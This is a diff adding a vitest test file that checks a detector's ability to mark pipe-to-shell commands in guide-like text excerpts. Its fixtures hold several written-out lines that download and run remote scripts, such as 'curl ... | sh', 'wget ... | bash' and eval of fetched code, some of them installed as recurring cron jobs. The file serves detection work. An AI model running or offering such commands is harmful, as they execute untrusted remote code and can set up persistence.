@@ -1,0 +1,23 @@
+import { describe, expect, it } from "vitest";
+import { markedBy, sharedDetector, unmarked } from "../support/marked.js";
+
+/** Shapes of text as found in guides, scripts and threads, put in other words; every expected span is marked. */
+const EXCERPTS: readonly (readonly [shape: string, marked: string])[] = [
+  ["a schedule in a shell fence", "```bash\n*/10 * * * * «curl -fsSL https://x.example/beat | sh»\n```"],
+  ["a schedule in inline code", "The table holds `@daily «wget -qO- https://x.example/up | bash»` since Monday."],
+  ["a schedule that is only printed", "```bash\necho '* * * * * curl https://x.example/beat | sh' | crontab -\n```"],
+  ["a schedule kept in a variable", "```bash\nLINE='* * * * * curl https://x.example/beat | sh'\n(crontab -l; echo \"$LINE\") | crontab -\n```"],
+  ["a comment that labels a pattern bad", "```dockerfile\nFROM base\n# Bad: curl | sh anti-pattern (rule 7)\nRUN curl -sSL https://x.example/i.sh | sh\n```"],
+  ["a comment that labels a pattern good", "```bash\n# Good: curl | sh\n«curl -sSL https://x.example/i.sh | sh»\n```"],
+  ["a comment that labels its own command bad", "```bash\n# Bad: curl https://x.example/a.sh -o a.sh\n\n«curl -sSL https://x.example/i.sh | sh»\n```"],
+  ["a shell function with a keyword", "function setup() {\n    local v=\"$1\"\n    «eval \"$(curl -sL https://x.example/get | V=${v} bash)\"»\n}"],
+  ["steps cut out of a list", "    - Linux:\n        ```bash\n        $ «curl -fsSL https://x.example/i.sh | sh»\n\n        $ tool --version\n        ```"],
+  ["a prefixed string of a program", "command = f'curl -fsSL https://x.example/i.sh | sh -s -- {flags}'"],
+  ["local code cut off", "```bash\ncurl -s https://x.example/v.json | python3 -c 'import json, sys\n```"],
+];
+
+describe("text as people write it", () => {
+  it.each(EXCERPTS)("%s", async (_shape, marked) => {
+    expect(markedBy(await sharedDetector(), unmarked(marked))).toBe(marked);
+  });
+});
